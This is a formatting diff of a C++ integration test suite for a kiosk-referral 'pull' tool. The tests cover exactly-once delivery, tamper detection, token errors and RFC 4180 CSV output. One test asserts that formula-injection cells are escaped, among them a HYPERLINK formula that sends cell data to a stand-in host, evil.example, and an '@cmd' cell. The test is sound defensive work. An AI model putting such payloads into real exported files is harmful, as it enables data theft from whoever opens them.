@@ -21,9 +21,9 @@
 #include "core/referral/referral_codec.h"
 #include "core/referral/sealing.h"
 #include "core/storage/database.h"
+#include "support/csv_reader.h"
 #include "support/process.h"
 #include "support/server_process.h"
-#include "support/csv_reader.h"
 #include "support/test_support.h"
 #include "sync/net/http_client.h"
 #include "sync/protocol/submission_signing.h"
@@ -184,8 +184,8 @@ public:
         startServer();
         m_coordinatorKey.emplace(CoordinatorKeyPair::generate());
         m_coordinatorKey->saveEncrypted(keyFile(), kPassphrase, KdfStrength::Interactive);
-        test::writePrivateText(tokenFile(),
-                               admin({"coordinator-token", "create", "--name", "coordinators"}) + "\n");
+        test::writePrivateText(
+            tokenFile(), admin({"coordinator-token", "create", "--name", "coordinators"}) + "\n");
     }
 
     const std::filesystem::path& dir() const { return m_dir.path(); }
@@ -289,7 +289,8 @@ public:
         s.serviceId = "svc-0001";
         s.test = isTest;
         const auto* bytes = reinterpret_cast<const std::uint8_t*>(payload.data());
-        s.sealed = sealForCoordinators({bytes, payload.size()}, sealTo != nullptr ? *sealTo : publicKey());
+        s.sealed =
+            sealForCoordinators({bytes, payload.size()}, sealTo != nullptr ? *sealTo : publicKey());
         kiosk.key.sign(s);
         return s;
     }
@@ -300,7 +301,8 @@ public:
             const std::size_t end = std::min(items.size(), start + protocol::kMaxBatchItems);
             batch.submissions.assign(items.begin() + static_cast<std::ptrdiff_t>(start),
                                      items.begin() + static_cast<std::ptrdiff_t>(end));
-            const HttpResponse response = post("/v1/submissions", kiosk.token, protocol::toJson(batch));
+            const HttpResponse response =
+                post("/v1/submissions", kiosk.token, protocol::toJson(batch));
             INFO(response.body);
             REQUIRE(response.status == 200);
             for (const auto& result : protocol::parseSubmissionResults(response.body).results) {
@@ -322,9 +324,10 @@ public:
 
     std::vector<std::string> pullArgs(const std::filesystem::path& out, const std::string& format,
                                       const std::vector<std::string>& extra = {}) const {
-        std::vector<std::string> args = {"pull",  "--server", url(),           "--token-file",
-                                         tokenFile().string(), "--key", keyFile().string(),
-                                         "--out", out.string(), "--format", format};
+        std::vector<std::string> args = {
+            "pull",  "--server",         url(),   "--token-file", tokenFile().string(),
+            "--key", keyFile().string(), "--out", out.string(),   "--format",
+            format};
         args.insert(args.end(), extra.begin(), extra.end());
         return args;
     }
@@ -345,7 +348,8 @@ public:
         return options;
     }
 
-    CliResult signpost(const std::vector<std::string>& args, std::map<std::string, std::string> env = {}) {
+    CliResult signpost(const std::vector<std::string>& args,
+                       std::map<std::string, std::string> env = {}) {
         const test::ProcessOptions options = signpostOptions(args, std::move(env));
         CliResult result;
         result.status = test::runProcess(options, 300s);
@@ -355,7 +359,8 @@ public:
     }
 
     CliResult pull(const std::filesystem::path& out, const std::string& format = "csv",
-                   const std::vector<std::string>& extra = {}, std::map<std::string, std::string> env = {}) {
+                   const std::vector<std::string>& extra = {},
+                   std::map<std::string, std::string> env = {}) {
         return signpost(pullArgs(out, format, extra), std::move(env));
     }
 
@@ -373,13 +378,15 @@ public:
     // Changes one column of one stored submission, as an attacker with the server's disk could.
     void tamper(const std::string& id, const char* column) {
         Database db(databaseFile().string());
-        Statement read = db.prepare(std::string("SELECT ") + column + " FROM submissions WHERE id = ?");
+        Statement read =
+            db.prepare(std::string("SELECT ") + column + " FROM submissions WHERE id = ?");
         read.bind(1, id);
         REQUIRE(read.step());
         std::vector<std::uint8_t> bytes = read.columnBlob(0);
         REQUIRE(bytes.size() > 40);
         bytes[bytes.size() / 2] ^= 0x5a;
-        Statement write = db.prepare(std::string("UPDATE submissions SET ") + column + " = ? WHERE id = ?");
+        Statement write =
+            db.prepare(std::string("UPDATE submissions SET ") + column + " = ? WHERE id = ?");
         write.bindBlob(1, bytes).bind(2, id);
         write.run();
         REQUIRE(db.changes() == 1);
@@ -424,7 +431,8 @@ std::vector<std::string> idsOf(const std::vector<Pushed>& pushed) {
 
 }  // namespace
 
-TEST_CASE("pull writes new referrals once per run, in each format, then acknowledges them", "[pull]") {
+TEST_CASE("pull writes new referrals once per run, in each format, then acknowledges them",
+          "[pull]") {
     const std::string format = GENERATE(as<std::string>{}, "csv", "json", "ndjson");
     INFO("format " << format);
     PullWorld world;
@@ -471,12 +479,15 @@ TEST_CASE("pull writes new referrals once per run, in each format, then acknowle
         CHECK(field(record, "Neighbourhood", "neighbourhood") == "Harpurhey");
         CHECK(field(record, "Service", "service_name") == "Chatty Café");
         CHECK(field(record, "Phone", "phone") == "0161 496 0123");
-        CHECK(field(record, "Notes", "notes") == "Czuję się samotna; I feel lonely since moving here.");
+        CHECK(field(record, "Notes", "notes") ==
+              "Czuję się samotna; I feel lonely since moving here.");
         CHECK(field(record, "Consent version", "consent_version") == "2026-11");
         CHECK_FALSE(field(record, "Received at", "received_at").empty());
-        CHECK(field(record, "Device", "device_name") == (i < 2 ? "Harpurhey kiosk" : "Gorton kiosk"));
+        CHECK(field(record, "Device", "device_name") ==
+              (i < 2 ? "Harpurhey kiosk" : "Gorton kiosk"));
         CHECK(field(record, "Device ID", "device_id") == (i < 2 ? harpurhey.id : gorton.id));
-        CHECK(field(record, "Test", "test") == (csv ? (i == 2 ? "yes" : "no") : (i == 2 ? "true" : "false")));
+        CHECK(field(record, "Test", "test") ==
+              (csv ? (i == 2 ? "yes" : "no") : (i == 2 ? "true" : "false")));
     }
     CHECK(field(records[0], "Name", "name") == "Zofia Wójcik");
     CHECK(field(records[2], "Name", "name") == "Staff Test");
@@ -543,7 +554,8 @@ TEST_CASE("with --skip-tests, test referrals are left out but still acknowledged
         CHECK(onlyTests.out.empty());
         CHECK(listOutput(world.outDir()).referrals.size() == 1);
         requireAcked(world, idsOf(more), true);
-        CHECK(world.pull(world.outDir(), "csv", {"--skip-tests"}).err.find("No new referrals.") != std::string::npos);
+        CHECK(world.pull(world.outDir(), "csv", {"--skip-tests"}).err.find("No new referrals.") !=
+              std::string::npos);
     }
 }
 
@@ -565,9 +577,11 @@ TEST_CASE("CSV output is RFC 4180 quoted and safe from formula injection", "[pul
     REQUIRE(run.status.exitedWith(0));
     const auto file = listOutput(world.outDir()).referrals.at(0);
     const std::string raw = test::readText(file);
-    CHECK(raw.find(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",") != std::string::npos);
+    CHECK(raw.find(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",") !=
+          std::string::npos);
     CHECK(raw.find(",\"'-x@example.org\",") != std::string::npos);
-    CHECK(raw.find("\"'+SUM(1,2)\nsecond line, with \"\"quotes\"\"\r\nthird\"") != std::string::npos);
+    CHECK(raw.find("\"'+SUM(1,2)\nsecond line, with \"\"quotes\"\"\r\nthird\"") !=
+          std::string::npos);
     CHECK(raw.find(",\"'@cmd\",") != std::string::npos);
     CHECK(raw.find(",\"'\tTabbed service\",") != std::string::npos);
     // No cell of the file starts with a formula character, quoted or not.
@@ -641,7 +655,8 @@ TEST_CASE("unreadable items go to the errors file, are not acknowledged, and exi
     CHECK(contents.errors[0].filename().string() ==
           contents.referrals[0].filename().replace_extension("").string() + ".errors.csv");
     CHECK(run.out == contents.referrals[0].string() + "\n" + contents.errors[0].string() + "\n");
-    CHECK(writtenIds(world.outDir()) == std::map<std::string, int>{{good[0].id, 1}, {good[1].id, 1}});
+    CHECK(writtenIds(world.outDir()) ==
+          std::map<std::string, int>{{good[0].id, 1}, {good[1].id, 1}});
 
     std::map<std::string, std::string> reasons;
     for (const auto& record : readCsvRecords(test::readText(contents.errors[0]))) {
@@ -666,7 +681,8 @@ TEST_CASE("unreadable items go to the errors file, are not acknowledged, and exi
     CHECK(run.err.find("Moved Blob") == std::string::npos);
 
     requireAcked(world, idsOf(good), true);
-    requireAcked(world, {alteredSealed.id, badSignature.id, otherKeyItem.id, notReferralId, movedId}, false);
+    requireAcked(
+        world, {alteredSealed.id, badSignature.id, otherKeyItem.id, notReferralId, movedId}, false);
 
     // They are reported once, not again on every run; the next run is clean.
     const CliResult again = world.pull(world.outDir(), "csv");
@@ -697,7 +713,8 @@ TEST_CASE("a wrong passphrase is one line and exit 1 before anything is fetched"
     Kiosk kiosk = world.enroll("Harpurhey kiosk");
     const auto pushed = world.pushReferrals(kiosk, 2);
 
-    const CliResult run = world.pull(world.outDir(), "csv", {}, {{"SIGNPOST_PASSPHRASE", "not the passphrase"}});
+    const CliResult run =
+        world.pull(world.outDir(), "csv", {}, {{"SIGNPOST_PASSPHRASE", "not the passphrase"}});
     REQUIRE(run.status.exitedWith(1));
     CHECK(trimmed(run.err) == "signpost pull: wrong passphrase for " + world.keyFile().string() +
                                   "; nothing was fetched");
@@ -707,15 +724,15 @@ TEST_CASE("a wrong passphrase is one line and exit 1 before anything is fetched"
 
     SECTION("from a passphrase file too") {
         test::writePrivateText(world.dir() / "pass.txt", "also wrong\n");
-        const CliResult fromFile = world.pull(world.outDir(), "csv",
-                                              {"--passphrase-file", (world.dir() / "pass.txt").string()});
+        const CliResult fromFile = world.pull(
+            world.outDir(), "csv", {"--passphrase-file", (world.dir() / "pass.txt").string()});
         REQUIRE(fromFile.status.exitedWith(1));
         CHECK(fromFile.err.find("wrong passphrase") != std::string::npos);
         test::writePrivateText(world.dir() / "pass.txt", std::string(kPassphrase) + "\n");
         // The file wins over the (wrong) environment variable.
-        const CliResult right = world.pull(world.outDir(), "csv",
-                                           {"--passphrase-file", (world.dir() / "pass.txt").string()},
-                                           {{"SIGNPOST_PASSPHRASE", "wrong"}});
+        const CliResult right = world.pull(
+            world.outDir(), "csv", {"--passphrase-file", (world.dir() / "pass.txt").string()},
+            {{"SIGNPOST_PASSPHRASE", "wrong"}});
         INFO(right.err);
         CHECK(right.status.exitedWith(0));
         requireAcked(world, idsOf(pushed), true);
@@ -732,16 +749,18 @@ TEST_CASE("token problems are one clear line: revoked, unknown, a device token",
         const CliResult run = world.pull(world.outDir(), "csv");
         REQUIRE(run.status.exitedWith(1));
         CHECK(lineCount(run.err) == 1);
-        CHECK(run.err.find("the server refused the token in " + world.tokenFile().string()) != std::string::npos);
+        CHECK(run.err.find("the server refused the token in " + world.tokenFile().string()) !=
+              std::string::npos);
         CHECK(run.err.find("401") != std::string::npos);
         CHECK(run.err.find("revoked") != std::string::npos);
-        const CliResult devices = world.signpost({"devices", "--server", world.url(), "--token-file",
-                                                  world.tokenFile().string()});
+        const CliResult devices = world.signpost(
+            {"devices", "--server", world.url(), "--token-file", world.tokenFile().string()});
         CHECK(devices.status.exitedWith(1));
         CHECK(devices.err.find("401") != std::string::npos);
     }
     SECTION("an unknown token → 401") {
-        test::writePrivateText(world.dir() / "other.token", "bm90LWEtcmVhbC10b2tlbi1hdC1hbGwtbm9wZS1ub3Bl\n");
+        test::writePrivateText(world.dir() / "other.token",
+                               "bm90LWEtcmVhbC10b2tlbi1hdC1hbGwtbm9wZS1ub3Bl\n");
         auto args = world.pullArgs(world.outDir(), "csv");
         args[4] = (world.dir() / "other.token").string();
         const CliResult unknown = world.signpost(args);
@@ -815,8 +834,8 @@ TEST_CASE("server down, TLS failure and a wrong address are one clear line each"
         CHECK(run.err.find("cannot reach the server at " + world.url()) != std::string::npos);
         CHECK(run.err.find("(curl: connect)") != std::string::npos);
         CHECK(listOutput(world.outDir()).referrals.empty());
-        const CliResult devices = world.signpost({"devices", "--server", world.url(), "--token-file",
-                                                  world.tokenFile().string()});
+        const CliResult devices = world.signpost(
+            {"devices", "--server", world.url(), "--token-file", world.tokenFile().string()});
         CHECK(devices.status.exitedWith(1));
         CHECK(devices.err.find("(curl: connect)") != std::string::npos);
         // Back up: the next run gets everything.
@@ -847,7 +866,8 @@ TEST_CASE("a write that fails (file too large) leaves no file and acknowledges n
     INFO(err);
     REQUIRE(status.exitedWith(1));
     CHECK(lineCount(err) == 1);
-    CHECK(err.find("cannot write the referrals in " + world.outDir().string()) != std::string::npos);
+    CHECK(err.find("cannot write the referrals in " + world.outDir().string()) !=
+          std::string::npos);
     CHECK(err.find("larger than this system allows") != std::string::npos);
     CHECK(err.find("nothing new was acknowledged") != std::string::npos);
     const DirContents contents = listOutput(world.outDir());
@@ -870,8 +890,8 @@ TEST_CASE("a second pull into the same directory is refused while one runs", "[p
         tool::PullDirectory held(world.outDir());
         const CliResult run = world.pull(world.outDir(), "csv");
         REQUIRE(run.status.exitedWith(1));
-        CHECK(run.err.find("another signpost pull is already writing to " + world.outDir().string()) !=
-              std::string::npos);
+        CHECK(run.err.find("another signpost pull is already writing to " +
+                           world.outDir().string()) != std::string::npos);
         requireAcked(world, idsOf(pushed), false);
     }
     CHECK(world.pull(world.outDir(), "csv").status.exitedWith(0));
@@ -892,13 +912,19 @@ TEST_CASE("pull usage errors exit 2 and --help exits 0", "[pull]") {
     args[2] = "ftp://example.org";
     usage(args, "--server must be an http:// or https:// address");
     usage({"pull", "--token-file", "t", "--key", "k", "--out", "o"}, "--server is required");
-    usage({"pull", "--server", world.url(), "--key", "k", "--out", "o"}, "--token-file is required");
-    usage({"pull", "--server", world.url(), "--token-file", "t", "--out", "o"}, "--key is required");
-    usage({"pull", "--server", world.url(), "--token-file", "t", "--key", "k"}, "--out is required");
-    usage(world.pullArgs(world.outDir(), "csv", {"--threads", "0"}), "--threads must be a whole number from 1 to 64");
-    usage(world.pullArgs(world.outDir(), "csv", {"--threads", "two"}), "--threads must be a whole number from 1 to 64");
+    usage({"pull", "--server", world.url(), "--key", "k", "--out", "o"},
+          "--token-file is required");
+    usage({"pull", "--server", world.url(), "--token-file", "t", "--out", "o"},
+          "--key is required");
+    usage({"pull", "--server", world.url(), "--token-file", "t", "--key", "k"},
+          "--out is required");
+    usage(world.pullArgs(world.outDir(), "csv", {"--threads", "0"}),
+          "--threads must be a whole number from 1 to 64");
+    usage(world.pullArgs(world.outDir(), "csv", {"--threads", "two"}),
+          "--threads must be a whole number from 1 to 64");
     usage({"devices", "--server", world.url()}, "--token-file is required");
-    usage({"devices", "--server", world.url(), "--token-file", "t", "--format", "csv"}, "unknown option --format");
+    usage({"devices", "--server", world.url(), "--token-file", "t", "--format", "csv"},
+          "unknown option --format");
 
     for (const std::string verb : {"pull", "devices"}) {
         const CliResult help = world.signpost({verb, "--help"});
@@ -907,7 +933,8 @@ TEST_CASE("pull usage errors exit 2 and --help exits 0", "[pull]") {
         CHECK(help.out.find("Exit status") != std::string::npos);
     }
     const CliResult help = world.signpost({"pull", "--help"});
-    for (const char* column : {"Reference", "Received at", "Consent version", "Created at (device clock)"}) {
+    for (const char* column :
+         {"Reference", "Received at", "Consent version", "Created at (device clock)"}) {
         CHECK(help.out.find(column) != std::string::npos);
     }
     const CliResult list = world.signpost({"help"});
@@ -915,7 +942,8 @@ TEST_CASE("pull usage errors exit 2 and --help exits 0", "[pull]") {
     CHECK(list.out.find("  devices") != std::string::npos);
 }
 
-TEST_CASE("killed at each step of a run, the next run writes each referral exactly once", "[pull]") {
+TEST_CASE("killed at each step of a run, the next run writes each referral exactly once",
+          "[pull]") {
     PullWorld world;
     Kiosk kiosk = world.enroll("Harpurhey kiosk");
     const CoordinatorKeyPair otherKey = CoordinatorKeyPair::generate();
@@ -924,8 +952,9 @@ TEST_CASE("killed at each step of a run, the next run writes each referral exact
     std::set<std::string> unreadable;
 
     int round = 0;
-    for (const std::string point : {"page-written", "errors-committed", "ledger-appended",
-                                    "referrals-committed", "state-saved", "acked-some", "acked-all"}) {
+    for (const std::string point :
+         {"page-written", "errors-committed", "ledger-appended", "referrals-committed",
+          "state-saved", "acked-some", "acked-all"}) {
         INFO("killed at " << point);
         const auto more = world.pushReferrals(kiosk, 3);
         good.insert(good.end(), more.begin(), more.end());
@@ -936,7 +965,8 @@ TEST_CASE("killed at each step of a run, the next run writes each referral exact
         ++round;
         const auto out = world.outDir("out-" + point);
 
-        const CliResult killed = world.pull(out, format, {}, {{"SIGNPOST_PULL_TEST_KILL_AT", point}});
+        const CliResult killed =
+            world.pull(out, format, {}, {{"SIGNPOST_PULL_TEST_KILL_AT", point}});
         INFO(killed.err);
         REQUIRE(killed.status.signal == SIGKILL);
 
@@ -978,8 +1008,9 @@ TEST_CASE("issue 9: killed at each step, then run with another key: only written
     // sealed to the first key become unreadable and items sealed to the second readable. A run
     // must acknowledge only what is in a referrals file of this directory, whatever the key.
     const CoordinatorKeyPair secondKey = CoordinatorKeyPair::generate();
-    for (const std::string point : {"page-written", "errors-committed", "ledger-appended",
-                                    "referrals-committed", "state-saved", "acked-some", "acked-all"}) {
+    for (const std::string point :
+         {"page-written", "errors-committed", "ledger-appended", "referrals-committed",
+          "state-saved", "acked-some", "acked-all"}) {
         INFO("killed at " << point);
         PullWorld world;
         const std::filesystem::path secondKeyFile = world.dir() / "second.key";
@@ -997,7 +1028,8 @@ TEST_CASE("issue 9: killed at each step, then run with another key: only written
         world.push(kiosk, sealedToSecond);
         const auto out = world.outDir();
 
-        const CliResult killed = world.pull(out, "csv", {}, {{"SIGNPOST_PULL_TEST_KILL_AT", point}});
+        const CliResult killed =
+            world.pull(out, "csv", {}, {{"SIGNPOST_PULL_TEST_KILL_AT", point}});
         INFO(killed.err);
         REQUIRE(killed.status.signal == SIGKILL);
         auto args = world.pullArgs(out, "csv");
@@ -1043,8 +1075,8 @@ TEST_CASE("issue 9: a directory written before the ledger is migrated, nothing w
     // Make it look like the version 1 tool left it: its state file, no ledger.
     std::filesystem::remove(out / tool::kPullLedgerFileName);
     test::writeText(out / tool::kPullStateFileName,
-                    "{\"format\":\"signpost-pull-state\",\"version\":1,\"server\":\"" + world.url() +
-                        "\",\"cursor\":6,\"acked_through\":6}");
+                    "{\"format\":\"signpost-pull-state\",\"version\":1,\"server\":\"" +
+                        world.url() + "\",\"cursor\":6,\"acked_through\":6}");
     const auto second = world.pushReferrals(kiosk, 2);
     const CliResult migrated = world.pull(out, "csv");
     INFO(migrated.err);
@@ -1064,7 +1096,8 @@ TEST_CASE("issue 9: a directory written before the ledger is migrated, nothing w
     }
 }
 
-TEST_CASE("kill -9 at random moments, with items arriving between runs: exactly once", "[pull][.]") {
+TEST_CASE("kill -9 at random moments, with items arriving between runs: exactly once",
+          "[pull][.]") {
     PullWorld world;
     std::vector<Kiosk> kiosks;
     kiosks.push_back(world.enroll("Harpurhey kiosk"));
@@ -1083,12 +1116,15 @@ TEST_CASE("kill -9 at random moments, with items arriving between runs: exactly 
         const CliResult calibration = world.pull(world.outDir("calibration"), "csv");
         REQUIRE(calibration.status.exitedWith(0));
     }
-    auto runTime = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - started);
+    auto runTime = std::chrono::duration_cast<std::chrono::milliseconds>(
+        std::chrono::steady_clock::now() - started);
 
     const unsigned seed = std::random_device{}();
     INFO("seed " << seed);
     std::mt19937 random(seed);
-    const auto below = [&](long long bound) { return static_cast<long long>(random() % static_cast<unsigned>(bound + 1)); };
+    const auto below = [&](long long bound) {
+        return static_cast<long long>(random() % static_cast<unsigned>(bound + 1));
+    };
     const char* formats[] = {"csv", "json", "ndjson"};
     // How a run is killed. A timed kill alone mostly lands early (key derivation, fetching) on a
     // busy machine, so two modes wait for a phase to start first.
@@ -1097,7 +1133,8 @@ TEST_CASE("kill -9 at random moments, with items arriving between runs: exactly 
     // At least 50 runs, and on until 25 of them were really killed (on a loaded machine more runs
     // finish before their kill lands): the loop's worth is in the kills, not in the run count.
     const auto kills = [&] {
-        return outcomes["killed timed"] + outcomes["killed while writing"] + outcomes["killed after a commit"];
+        return outcomes["killed timed"] + outcomes["killed while writing"] +
+               outcomes["killed after a commit"];
     };
     for (int iteration = 0; iteration < 200 && (iteration < 50 || kills() < 25); ++iteration) {
         Kiosk& kiosk = kiosks[random() % 2];
@@ -1115,11 +1152,13 @@ TEST_CASE("kill -9 at random moments, with items arriving between runs: exactly 
                                             : std::string();
         const auto mode = static_cast<Mode>(random() % 3);
         const auto runStarted = std::chrono::steady_clock::now();
-        auto child = test::ChildProcess::spawn(world.signpostOptions(world.pullArgs(out, formats[random() % 3])));
+        auto child = test::ChildProcess::spawn(
+            world.signpostOptions(world.pullArgs(out, formats[random() % 3])));
         bool phaseSeen = true;
         switch (mode) {
             case Timed:
-                std::this_thread::sleep_for(std::chrono::milliseconds(below(runTime.count() * 3 / 2)));
+                std::this_thread::sleep_for(
+                    std::chrono::milliseconds(below(runTime.count() * 3 / 2)));
                 break;
             case WhileWriting:
                 phaseSeen = test::waitUntil(
@@ -1145,12 +1184,15 @@ TEST_CASE("kill -9 at random moments, with items arriving between runs: exactly 
         }
         REQUIRE(phaseSeen);
         const test::ExitStatus status = child.kill();
-        const char* modeName = mode == Timed ? "timed" : mode == WhileWriting ? "while writing" : "after a commit";
+        const char* modeName = mode == Timed          ? "timed"
+                               : mode == WhileWriting ? "while writing"
+                                                      : "after a commit";
         if (status.exited) {
             INFO(child.report());
             REQUIRE((status.code == 0 || status.code == 3));
             ++outcomes[std::string("finished (") + modeName + ")"];
-            runTime = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - runStarted);
+            runTime = std::chrono::duration_cast<std::chrono::milliseconds>(
+                std::chrono::steady_clock::now() - runStarted);
         } else {
             ++outcomes[std::string("killed ") + modeName];
         }
@@ -1204,12 +1246,13 @@ TEST_CASE("devices prints the fleet as an aligned table, or JSON", "[pull]") {
     beat.rejected = 1;
     beat.lastError = "timeout";
     beat.freeDiskBytes = 12'345'678'901;
-    REQUIRE(world.post("/v1/devices/heartbeat", harpurhey.token, protocol::toJson(beat)).status == 204);
+    REQUIRE(world.post("/v1/devices/heartbeat", harpurhey.token, protocol::toJson(beat)).status ==
+            204);
     const std::string revokedId = old.id;
     world.admin({"devices", "revoke", revokedId});
 
-    const CliResult table = world.signpost({"devices", "--server", world.url(), "--token-file",
-                                            world.tokenFile().string()});
+    const CliResult table = world.signpost(
+        {"devices", "--server", world.url(), "--token-file", world.tokenFile().string()});
     INFO(table.err);
     REQUIRE(table.status.exitedWith(0));
     CHECK(table.err.find("3 kiosks (1 revoked).") != std::string::npos);
@@ -1223,8 +1266,8 @@ TEST_CASE("devices prints the fleet as an aligned table, or JSON", "[pull]") {
     const std::string& header = lines[0];
     CHECK(header.rfind("DEVICE", 0) == 0);
     // Every column starts at the same offset on every line (the names here are ASCII).
-    for (const char* column : {"VENUE", "LAST SEEN", "VERSION", "QUEUED", "SENT", "REJECTED", "LAST ERROR",
-                               "FREE DISK", "STAFF", "REVOKED", "ID"}) {
+    for (const char* column : {"VENUE", "LAST SEEN", "VERSION", "QUEUED", "SENT", "REJECTED",
+                               "LAST ERROR", "FREE DISK", "STAFF", "REVOKED", "ID"}) {
         const std::size_t at = header.find(std::string("  ") + column);
         INFO(column);
         REQUIRE(at != std::string::npos);
@@ -1246,14 +1289,15 @@ TEST_CASE("devices prints the fleet as an aligned table, or JSON", "[pull]") {
     const std::string active = rowOf("Harpurhey kiosk");
     CHECK(active.find("Harpurhey Library") != std::string::npos);
     CHECK(active.find("UTC (just now)") != std::string::npos);
-    CHECK(std::regex_search(active, std::regex("0\\.1\\.0 +3 +120 +1 +timeout +12\\.3 GB +- +no +" + harpurhey.id + "$")));
+    CHECK(std::regex_search(active, std::regex("0\\.1\\.0 +3 +120 +1 +timeout +12\\.3 GB +- +no +" +
+                                               harpurhey.id + "$")));
     const std::string silent = rowOf("Gorton kiosk");
     CHECK(std::regex_search(silent, std::regex("  - +- +- +- +- +- +- +no +" + gorton.id + "$")));
     const std::string revoked = rowOf("Old kiosk");
     CHECK(std::regex_search(revoked, std::regex(" yes +" + revokedId + "$")));
 
-    const CliResult asJson = world.signpost({"devices", "--server", world.url(), "--token-file",
-                                             world.tokenFile().string(), "--json"});
+    const CliResult asJson = world.signpost(
+        {"devices", "--server", world.url(), "--token-file", world.tokenFile().string(), "--json"});
     REQUIRE(asJson.status.exitedWith(0));
     const json devices = json::parse(asJson.out);
     REQUIRE(devices.is_array());
@@ -1270,8 +1314,9 @@ TEST_CASE("devices prints the fleet as an aligned table, or JSON", "[pull]") {
 
     SECTION("a device token is refused with 403") {
         test::writePrivateText(world.dir() / "device.token", gorton.token + "\n");
-        const CliResult refused = world.signpost({"devices", "--server", world.url(), "--token-file",
-                                                  (world.dir() / "device.token").string()});
+        const CliResult refused =
+            world.signpost({"devices", "--server", world.url(), "--token-file",
+                            (world.dir() / "device.token").string()});
         REQUIRE(refused.status.exitedWith(1));
         CHECK(refused.err.find("403") != std::string::npos);
     }
